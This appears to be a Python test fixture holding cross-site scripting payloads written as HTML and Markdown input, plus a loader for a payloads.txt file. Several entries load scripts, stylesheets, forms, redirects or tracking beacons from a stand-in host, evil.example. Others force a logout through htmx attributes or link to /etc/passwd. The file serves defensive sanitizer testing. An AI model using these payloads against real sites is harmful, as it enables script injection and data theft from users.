"""What somebody might type to make a reader's browser do something. `payloads.txt` holds more, by way in."""

import re
from pathlib import Path

PLAIN_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=a></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onload=alert(1)/>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)></select>",
    "<p id=main hx-get=/logout hx-trigger=load>x</p>",
    "<div data-hx-post='/accounts/logout/' data-hx-trigger='load'>x</div>",
    "<abbr title='\" onmouseover=alert(1) x=\"'>x</abbr>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</li></ol>",
    "<code class='x' onclick=alert(1)>x</code>",
    "<img/src=`x`onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<a/href=javascript&colon;alert(1)>x</a>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](<javascript:alert(1)>)",
    '[a](https://ok.example "x\\" onmouseover=alert(1)")',
    "```html onmouseover=alert(1)\n<b>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "| <svg onload=alert(1)> |\n|---|\n| x |",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    'https://ok.example/"onmouseover=alert(1)',
    "www.ok.example/<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<script",
    "<",
    '<a href="',
    "\x0b<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
)
HOSTILE = PLAIN_HTML + MARKDOWN


def payloads() -> dict[str, list[str]]:
    """By the way in, as they would arrive: with real new lines, tabs and null characters."""
    found: dict[str, list[str]] = {}
    _, *lines = (Path(__file__).parent / "payloads.txt").read_text(encoding="utf-8").splitlines()
    for line in lines:
        if heading := re.fullmatch(r"\[([a-z A-Z]+)\]", line):
            group = found[heading[1]] = []
        else:
            group.append(line.replace("\\n", "\n").replace("\\t", "\t").replace("\\0", "\0"))
    return found


PAYLOADS = payloads()
